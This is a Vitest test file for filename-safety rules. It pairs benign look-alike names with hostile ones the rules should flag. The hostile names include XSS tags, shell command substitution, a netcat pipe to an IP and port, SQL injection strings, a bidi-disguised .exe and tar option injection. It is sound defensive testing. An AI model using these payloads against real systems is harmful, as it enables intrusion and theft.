import { describe, expect, it } from 'vitest';
import fc from '../test-support/fast-check.js';
import { check, facts } from '../test-support/rule-tester.js';
import { RULES } from './index.js';

const rules = RULES.filter((r) => r.category === 'unsafe-filename');
const fired = (name: string, over = {}): string[] =>
  rules.filter((rule) => check(rule, facts(name, over)).length > 0).map((rule) => rule.id.split('/')[1]!);

describe('unsafe-filename rules', () => {
  it.each([
    // benign look-alikes
    ['photo.jpg', []],
    ['résumé-Müller.pdf', []],
    ['履歴書 2024.pdf', []],
    ['файл.txt', []],
    ['emoji 😀.png', []],
    ['console.log.txt', []],
    ['com10.txt', []],
    ['lpt.txt', []],
    ['a-b.jpg', []],
    ["O'Brien.jpg", []],
    ['a & b.jpg', []],
    ['photo (1).jpg', []],
    ['Tom and Jerry; season 2.mp4', []],
    ['price $5.txt', []],
    ['1 < 2.txt', []],
    ["Rock'n'Roll or jazz.mp3", []],
    ['select from list.pdf', []],
    ['sleep study.pdf', []],
    ['Passport; ID scan.pdf', []],
    ['Dogs & cats; echoes.jpg', []],
    // the real thing
    ['"><img src=x onerror=alert(document.domain)>.png', ['injection']],
    ['<svg onload=alert(1)>.jpg', ['injection']],
    ['$(id).jpg', ['injection']],
    ['a`whoami`.jpg', ['injection']],
    ['x; sleep 10;.jpg', ['injection']],
    ['x|nc 203.0.113.9 4444|.jpg', ['injection']],
    ["poc.js'(select*from(select(sleep(20)))a)+'.png", ['injection']],
    ["x' or 1=1 --.jpg", ['injection']],
    ['1 union select password from users.jpg', ['injection']],
    ['invoice_\u202Efdp.exe', ['bidi']],
    ['\u2066x\u2069.txt', ['bidi']],
    ['line\nbreak.jpg', ['control']],
    ['tab\there.jpg', ['control']],
    ['\x1b[31mred.jpg', ['control']],
    ['c1\u009b.jpg', ['control']],
    ['CON', ['reserved']],
    ['nul.txt', ['reserved']],
    ['com1.jpg', ['reserved']],
    ['LPT9', ['reserved']],
    ['aux .txt', ['reserved']],
    [`${'a'.repeat(252)}.jpg`, ['too-long']],
    [`${'é'.repeat(126)}.jpg`, ['too-long']],
    ['-rf', ['leading-dash']],
    ['--checkpoint-action=exec=sh', ['leading-dash']],
    ['.hidden.jpg', ['hidden']],
    [' lead.jpg', ['whitespace']],
    ['trail.jpg ', ['whitespace']],
  ])('%j → %j', (name, expected) => {
    expect(fired(name)).toEqual(expected);
  });

  it('finds reserved device names exactly where the part before the first dot is one', () => {
    const RESERVED = /^(con|prn|aux|nul|com[0-9¹²³]|lpt[0-9¹²³]|conin\$|conout\$)$/i;
    const reserved = rules.find((r) => r.id === 'unsafe-filename/reserved')!;
    const name = fc
      .array(
        fc.constantFrom('con', 'CoN', 'nul', 'com1', 'lpt²', 'conin$', 'aux', ' ', '.', 'x', 'txt', '1'),
        {
          maxLength: 6,
        },
      )
      .map((parts) => parts.join(''));
    fc.assert(
      fc.property(name, (n) => {
        const device = n.split('.')[0]!.replace(/ +$/, '');
        const expected = RESERVED.test(device) ? [{ messageId: 'name', evidence: { base: device } }] : [];
        expect(check(reserved, facts(n))).toEqual(expected);
      }),
      { numRuns: 3000 },
    );
  });

  it('reports names that are not valid UTF-8 from the listing fact', () => {
    expect(fired('bad\uFFFD.jpg', { invalidUtf8Name: true })).toEqual(['invalid-utf8']);
    expect(fired('bad\uFFFD.jpg')).toEqual([]);
  });

  it('names the code points it found', () => {
    const rule = rules.find((r) => r.id === 'unsafe-filename/bidi')!;
    expect(check(rule, facts('a\u202Eb\u202Ec'))[0]!.evidence).toEqual({ chars: 'U+202E' });
  });
});
